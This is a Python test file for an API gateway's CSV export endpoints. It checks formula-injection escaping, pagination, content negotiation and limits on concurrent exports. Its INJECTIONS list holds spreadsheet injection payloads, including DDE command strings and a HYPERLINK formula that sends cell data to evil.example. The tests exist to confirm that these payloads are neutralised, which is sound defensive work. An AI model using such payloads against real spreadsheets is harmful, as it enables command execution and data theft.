"""Exports over the wire, on both databases: whole whatever the pages, no formulas, read back by Python's csv as what was shown."""

import asyncio
import csv
import io

import pytest
from sqlalchemy import insert, text

from gatewayz.core.calls import new_ulid
from gatewayz.store.sql.tables import CALLS
from gatewayz.web.api.export import PAGE_ROWS, csv_cell, csv_lines
from tests.support.control_plane import ANSWER_S, run_control_plane

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "--1",
    "-",
    "+",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "-2+3+cmd|' /C calc'!D2",
    '="a""b"',
    "+49 30 1234",
    "-1e5",
    "-1,5",
]
PLAIN = [
    "",
    "eve",
    "a,b",
    "a;b",
    'say "no"',
    "two\r\nlines",
    "'quoted",
    "caf\u00e9 \u4e2d\u6587",
    "1",
    "-1",
    "12.5",
    "-0.000000001",
    " =not a formula at its beginning",
    "a=b",
    "x\x0by",
]


@pytest.fixture
async def control_plane(location, tmp_path):
    async with run_control_plane(location, tmp_path) as plane:
        yield plane


def read(text):
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def file_of(caller, path, status=200, accept="text/csv"):
    answer = await caller("GET", path, Accept=accept)
    assert answer.status == status, (path, answer.status, answer.text)
    return answer


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_cell_is_a_formula(text):
    assert csv_cell(text) == f"'{text}"
    assert next(
        csv.reader(io.StringIO(csv_lines([[csv_cell(text), "x"]]), newline=""), strict=True)
    ) == [
        f"'{text}",
        "x",
    ]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is_and_so_do_numbers(text):
    assert next(
        csv.reader(io.StringIO(csv_lines([["x", csv_cell(text)]]), newline=""), strict=True)
    ) == [
        "x",
        text,
    ]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("1;=2", "1;'=2"),
        ("a\t@b", "a\t'@b"),
        ("a\n+b", "a\n'+b"),
        ('a;"=b', "a;\"'=b"),
        ("=a;=b", "'=a;'=b"),
        ("=1\r\n=2", "'=1\r\n'=2"),
        ("a;b", "a;b"),
        ("a,=b", "a,=b"),
    ],
)
def test_nor_does_a_formula_begin_where_another_spreadsheet_would_end_a_cell(text, written):
    assert csv_cell(text) == written


def test_values_that_are_no_texts():
    assert [csv_cell(value) for value in (None, True, False, -5, 0, ["a", "b"], [], ["=a"])] == [
        "",
        "true",
        "false",
        "-5",
        "0",
        "a,b",
        "",
        "'=a",
    ]


def shown_as(row):
    return {name: csv_cell(value) for name, value in row.items() if name != "object"}


async def test_calls_transactions_and_usage_are_files_for_whoever_asks_for_one(control_plane):
    admin = await control_plane.create_key("acme", "inference", "account")
    for number, user in enumerate(("eve", "=1+1", 'a,"b"')):
        assert (
            await admin.chat(
                user=user, headers={"X_Gatewayz_Tags": "team-a,=tag"} if number else {}
            )
        ).status == 200
    for path, admins, name in (
        ("/v1/calls", "/admin/calls?account=acme", "calls"),
        ("/v1/account/transactions", "/admin/transactions?account=acme", "transactions"),
        ("/v1/account/usage?by=end_user", "/admin/usage?by=end_user&account=acme", "usage"),
    ):
        rows = (await admin.get(path))["data"]
        for caller, where in ((admin, path), (control_plane.operator, admins)):
            answer = await file_of(caller, where)
            assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
            assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
            assert (answer.headers["x-content-type-options"], answer.headers["cache-control"]) == (
                "nosniff",
                "no-store",
            )
            assert read(answer.text) == [shown_as(row) for row in rows]
            assert answer.text.endswith("\r\n")
    exported = read((await file_of(admin, "/v1/calls")).text)
    assert [row["end_user"] for row in exported] == ['a,"b"', "'=1+1", "eve"]
    assert [int(row["cost_nanos"]) for row in exported] == [
        row["cost_nanos"] for row in (await admin.get("/v1/calls"))["data"]
    ]
    assert {row["tags"] for row in exported} == {"team-a,=tag", ""}


async def test_one_rule_says_who_gets_a_file(control_plane):
    admin = await control_plane.create_key("acme", "account")
    for accept in ("text/csv", "TEXT/CSV;q=0.9, application/json", "application/json, text/csv"):
        assert (
            (await file_of(admin, "/v1/calls", accept=accept))
            .headers["content-type"]
            .startswith("text/csv")
        )
    for accept in ("*/*", "application/json", "text/*", "text/csvx"):
        assert (await file_of(admin, "/v1/calls", accept=accept)).headers[
            "content-type"
        ] == "application/json"
    assert (await file_of(admin, "/v1/account")).headers["content-type"] == "application/json"
    assert (
        "query field 'format'"
        in (await admin.get("/v1/calls?format=csv", status=400))["error"]["message"]
    )


async def test_what_is_refused_is_refused_in_json(control_plane):
    admin, poor = (
        await control_plane.create_key("acme", "account"),
        await control_plane.create_key("acme", "inference"),
    )
    for path in (
        "/v1/account/transactions?after=nonsense",
        "/v1/calls?failed=perhaps",
        "/v1/account/usage?by=colour",
        "/v1/account/usage?from_ms=5&until_ms=5",
    ):
        assert set((await file_of(admin, path, status=400)).json()) == {"error"}
    assert set((await file_of(poor, "/v1/account/transactions", status=403)).json()) == {"error"}


async def many_calls(control_plane, count):
    columns = {
        "account_id": "acme",
        "key_id": "key",
        "endpoint": "/v1/chat/completions",
        "status": 200,
        "end_user": "x" * 200,
    }
    ids = sorted(new_ulid() for _ in range(count))
    async with control_plane.transaction.database.begin() as connection:
        for start in range(0, count, 500):
            await connection.execute(
                insert(CALLS),
                [
                    {**columns, "id": id, "received_ms": number}
                    for number, id in enumerate(ids[start : start + 500], start)
                ],
            )
    return ids[::-1]


async def test_an_export_is_whole_whatever_the_pages_and_begins_at_its_cursor(control_plane):
    admin = await control_plane.create_key("acme", "account")
    ids = await many_calls(control_plane, 2 * PAGE_ROWS + 17)
    assert [row["id"] for row in read((await file_of(admin, "/v1/calls?limit=10")).text)] == ids
    assert [
        row["id"]
        for row in read((await file_of(admin, f"/v1/calls?after={ids[1_500]}&failed=false")).text)
    ] == ids[1_501:]
    assert read((await file_of(admin, "/v1/calls?model=none")).text) == []


async def slowly(control_plane, caller):
    """Asks for all calls and reads nothing but the head."""
    reader, writer = await asyncio.open_connection(
        control_plane.client.host, control_plane.client.port, limit=1_024
    )
    head = f"GET /v1/calls HTTP/1.1\r\nHost: 127.0.0.1:{control_plane.client.port}\r\nAuthorization: Bearer {caller.key}\r\nAccept: text/csv\r\n\r\n"
    writer.write(head.encode())
    async with asyncio.timeout(ANSWER_S):
        assert b" 200 " in await reader.readuntil(b"\r\n")
    return reader, writer


async def test_exports_at_a_time_are_bounded_and_one_whose_client_left_is_over(control_plane):
    admin, other = (
        await control_plane.create_key("acme", "account"),
        await control_plane.create_key("other", "account"),
    )
    await many_calls(control_plane, 12_000)
    exports = control_plane.gateway.built.app._control_plane._context.exports
    clients = [await slowly(control_plane, admin) for _ in range(2)]
    refused = await file_of(admin, "/v1/calls", status=429)
    assert refused.headers["retry-after"]
    assert read((await file_of(other, "/v1/calls")).text) == []
    for _, writer in clients:
        writer.transport.abort()
    async with asyncio.timeout(ANSWER_S):
        while exports.in_use:
            await asyncio.sleep(0.01)
    assert len(read((await file_of(admin, "/v1/calls")).text)) == 12_000


async def test_an_export_that_cannot_go_on_is_broken_off(control_plane):
    admin = await control_plane.create_key("acme", "account")
    await many_calls(control_plane, 12_000)
    reader, writer = await slowly(control_plane, admin)
    async with control_plane.transaction.database.begin() as connection:
        await connection.execute(text("ALTER TABLE calls RENAME TO elsewhere"))
    async with asyncio.timeout(ANSWER_S):
        rest = await reader.read()
    async with control_plane.transaction.database.begin() as connection:
        await connection.execute(text("ALTER TABLE elsewhere RENAME TO calls"))
    assert len(rest) > 1_000
    writer.close()
    assert not rest.endswith(b"\r\n0\r\n\r\n")
